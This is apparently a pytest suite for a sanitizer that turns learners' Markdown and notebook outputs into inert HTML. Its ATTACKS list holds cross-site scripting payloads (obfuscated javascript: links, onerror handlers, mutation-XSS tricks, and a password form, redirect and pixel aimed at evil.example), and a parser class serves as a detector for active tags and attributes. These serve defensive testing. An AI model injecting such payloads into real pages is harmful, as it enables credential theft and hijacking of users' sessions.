"""Words of a learner become HTML that can do nothing, and none of them is lost."""

import random
import re
from html.parser import HTMLParser

import pytest

from carekit.common import safe_html


class Acts(HTMLParser):
    """Collects everything in a page that could act, load or style."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        if tag in {"script", "iframe", "object", "embed", "form", "link", "base", "svg", "math"}:
            self.found.append(tag)
        for name, value in attrs:
            value = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()
            bad_link = name in ("href", "src", "action", "xlink:href") and not re.match(
                r"(#|https?://|mailto:|data:image/)", value
            )
            if name.startswith("on") or name in ("style", "srcdoc", "srcset") or bad_link:
                self.found.append(f"{tag} {name}={value}")


ATTACKS = [
    "<script>steal()</script>",
    "<img src=x onerror=steal()>",
    "<svg onload=steal()><script>steal()</script></svg>",
    "[click](javascript:steal())",
    "[click](JaVa&#83;cript:steal())",
    "<a href='data:text/html,<script>steal()</script>'>x</a>",
    "<iframe srcdoc='<script>steal()</script>'></iframe>",
    "<style>main { display: none }</style>",
    "<div style='position:fixed;inset:0'>Full marks</div>",
    "<div class='check passed'>Full marks</div>",
    "<form action='https://evil.example'><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "![x](https://evil.example/pixel.png)",
    "<math><mtext><script>steal()</script></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'>",
    "<input type=radio id=pick-en checked>",
    "</pre></section><script>steal()</script>",
    "<img src='data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Lz48L3N2Zz4='>",
    "<scr<script>ipt>steal()</scr</script>ipt>",
    "{{ page.learner }}{% raw %}",
    "<a href='&#x6A;avascript:steal()' ping='https://evil.example'>x</a>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_a_learner_writes_can_act_load_or_restyle(attack):
    """In Markdown, in code, in every kind of output."""
    made = [safe_html.markdown(attack), f"<pre>{safe_html.plain(attack)}</pre>"]
    kinds = ("text/html", "text/markdown", "text/plain", "image/svg+xml", "image/png")
    outputs = [{"output_type": "display_data", "data": {kind: attack}} for kind in kinds]
    outputs.append({"output_type": "stream", "name": attack, "text": attack})
    outputs.append({"output_type": "error", "traceback": [attack]})
    made += [safe_html.output(one) for one in outputs]
    for html in made:
        acts = Acts()
        acts.feed(html)
        assert acts.found == []
        assert "passed" not in re.findall(r'class="([^"]*)"', html)
        assert "evil.example/pixel" not in html or "<img" not in html


class Held(HTMLParser):
    """Collects the elements, attributes and words of a page."""

    def __init__(self, page):
        super().__init__()
        self.elements, self.attributes, self.words = set(), set(), ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data):
        self.words += data

    def handle_comment(self, data):
        self.elements.add(f"a comment: {data}")


def test_whatever_is_mixed_only_what_a_page_may_hold_comes_out():
    """Attacks cut to pieces and put together anew 1,000 times: their tags no longer match."""
    pieces = [piece for attack in ATTACKS for piece in re.findall(r"<[^<>]*>|[^<>]+|[<>]", attack)]
    draws = random.Random(1)
    for _ in range(1_000):
        page = safe_html.clean("".join(draws.choices(pieces, k=draws.randrange(2, 14))))
        held, acts = Held(page), Acts()
        acts.feed(page)
        assert acts.found == []
        assert held.elements <= {"a", "b", "br", "div", "img", "li", "p", "pre", "table"}
        assert held.attributes <= {"alt", "href", "src", "title"}


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("<svg><text>kept</text></svg>", id="in a picture"),
        pytest.param("<math><mi>kept</mi></math>", id="in a formula"),
        pytest.param("<textarea>kept</textarea>", id="in a field"),
        pytest.param("<button>kept</button>", id="in a control"),
        pytest.param("<style>kept", id="after a tag that is never closed"),
        pytest.param("a <kept", id="in a tag that never ends"),
        pytest.param("a <kept <b>b</b>", id="in a tag that another interrupts"),
        pytest.param('<abbr title="a < b">kept</abbr>', id="after a sign in quotes"),
        pytest.param("\ud800kept", id="after half a letter"),
    ],
)
def test_what_is_taken_out_costs_no_word(text):
    made = safe_html.clean(text)
    assert "kept" in Held(made).words
    assert made.encode()


def test_the_rule_about_what_acts_can_fail():
    acts = Acts()
    acts.feed("<p onclick='x'>a</p><script></script><a href='javascript:x'>b</a>")
    assert len(acts.found) == 3


def test_a_flood_of_output_is_cut_and_colour_codes_are_gone():
    shown = safe_html.plain("\x1b[31mred\x1b[0m" + "x" * 100_000)
    assert shown.startswith("redx")
    assert len(shown) < 21_000


@pytest.mark.parametrize("piece", ["<div>", "<b><p>", "<style ", "<a>", "<ul><li>", "&", "<"])
def test_html_that_would_keep_a_parser_busy_is_shown_as_it_was_written(piece):
    bad = piece * (19_000 // len(piece))
    assert safe_html.heavy(bad * 3)
    assert safe_html.markdown(bad) == f"<pre>{safe_html.plain(bad)}</pre>"
    shown = {"output_type": "display_data", "data": {"text/html": bad, "text/plain": "in words"}}
    assert safe_html.output(shown) == '<pre class="out">in words</pre>'


def test_what_people_and_pandas_write_is_rendered():
    rows = "".join(f"<tr><td>{n}</td><td>a &amp; b</td></tr>" for n in range(1_000))
    table = f"<table><tbody>{rows}</tbody></table>"
    shown = {"output_type": "display_data", "data": {"text/html": table}}
    assert safe_html.output(shown) == f'<div class="wide">{table}</div>'
    text = "**Yes** <br> if `a < b`\n\n" * 300
    assert safe_html.markdown(text).count("<strong>Yes</strong>") == 300
    assert safe_html.clean("a<script>b</script>c<STYLE x>d</Style >e<style>f") == "acef"
    assert safe_html.markdown("\n") == ""


def test_a_page_renders_so_much_of_one_learner_and_shows_the_rest_as_it_stands():
    allowance = safe_html.Allowance(left=100)
    assert allowance.markdown("**a**") == "<p><strong>a</strong></p>\n"
    assert allowance.markdown("**b**" * 10) == f"<pre>{'**b**' * 10}</pre>"
    shown = {"output_type": "display_data", "data": {"text/html": "<b>x</b>", "text/plain": "x"}}
    assert allowance.output(shown) == '<pre class="out">x</pre>'
